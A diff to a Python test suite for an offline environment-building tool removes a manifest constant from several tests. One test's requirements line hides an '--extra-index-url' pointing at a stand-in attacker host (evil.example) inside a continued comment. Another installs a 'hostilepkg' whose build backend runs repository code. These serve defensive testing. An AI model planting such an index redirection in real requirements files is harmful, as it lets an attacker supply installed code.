@@ -81,11 +81,6 @@ def test_requirement_replacing_the_base_framework_is_refused(harness: Harness, f
     harness.expect_failure(harness.run(timeout=60), errors.RequirementError, "would replace the base image's torch 2.13.0")
 
 
-#: a repo that lists what it needs: the legacy layout would add what the original image carried
-#: (live_code/legacy.py), which these offline wheelhouses do not hold
-MANIFEST = {"live-code.yaml": "entry: python start.py\n"}
-
-
 def _offline(harness: Harness) -> dict[str, object]:
     wheels = harness.root / "wheelhouse"
     wheels.mkdir(exist_ok=True)
@@ -96,14 +91,14 @@ def test_dependency_on_another_torch_fails_resolution_and_leaves_no_env(harness:
     harness.env["LIVE_CODE_BASE_PYTHON"] = fake_torch_base
     wheel = wheel_bytes(harness.root / "w", "needs-new-torch", "1.0", requires=("torch==2.14.0",))
     repo = harness.repo({"wheels/needs_new_torch-1.0-py3-none-any.whl": wheel,
-                         "requirements.txt": "./wheels/needs_new_torch-1.0-py3-none-any.whl\n", **MANIFEST})
+                         "requirements.txt": "./wheels/needs_new_torch-1.0-py3-none-any.whl\n"})
     harness.use(repo, **_offline(harness))
     harness.expect_failure(harness.run(), errors.EnvironmentBuildError, "could not resolve the requirements", "torch")
 
 
 def test_ten_thousand_requirements_fail_offline_resolution_cleanly(harness: Harness) -> None:
     text = "".join(f"pkg{i}==1.0\n" for i in range(10_000))
-    harness.use(harness.repo({"requirements.txt": text, **MANIFEST}), **_offline(harness))
+    harness.use(harness.repo({"requirements.txt": text}), **_offline(harness))
     harness.expect_failure(harness.run(), errors.EnvironmentBuildError, "could not resolve the requirements")
 
 
@@ -166,7 +161,7 @@ def test_source_build_runs_repository_code_at_install_without_secrets(harness: H
         backend-path = ["."]
         """)
     repo = harness.repo({"pkg/pyproject.toml": pyproject, "pkg/backend.py": _BACKEND % {"dump": str(dump)},
-                         "requirements.txt": "./pkg\n", **MANIFEST})
+                         "requirements.txt": "./pkg\n"})
     harness.use(repo, **_offline(harness))
     prov = harness.expect_success(harness.run())
     assert "hostilepkg==1.0" in prov["environment"]["added"]
@@ -179,7 +174,7 @@ def test_local_wheel_inside_the_repository_is_installed_offline(harness: Harness
     """Documented success: a pinned local wheel in the repo, with an offline wheelhouse."""
     wheel = wheel_bytes(harness.root / "w", "tinyapp", "1.0")
     repo = harness.repo({"wheels/tinyapp-1.0-py3-none-any.whl": wheel,
-                         "requirements.txt": "./wheels/tinyapp-1.0-py3-none-any.whl\n", **MANIFEST})
+                         "requirements.txt": "./wheels/tinyapp-1.0-py3-none-any.whl\n"})
     harness.use(repo, **_offline(harness))
     prov = harness.expect_success(harness.run())
     assert prov["environment"]["added"] == ["tinyapp==1.0"]
@@ -190,8 +185,7 @@ def test_option_after_a_continued_comment_is_part_of_the_comment(harness: Harnes
     into the comment, so an option hidden there is never read."""
     wheels = harness.root / "wheelhouse"
     wheel_bytes(wheels, "tinyapp", "1.0")
-    repo = harness.repo({"requirements.txt": "tinyapp==1.0  # pinned \\\n--extra-index-url https://evil.example/s\n",
-                         **MANIFEST})
+    repo = harness.repo({"requirements.txt": "tinyapp==1.0  # pinned \\\n--extra-index-url https://evil.example/s\n"})
     harness.use(repo, **_offline(harness))
     prov = harness.expect_success(harness.run())
     assert prov["environment"]["added"] == ["tinyapp==1.0"]
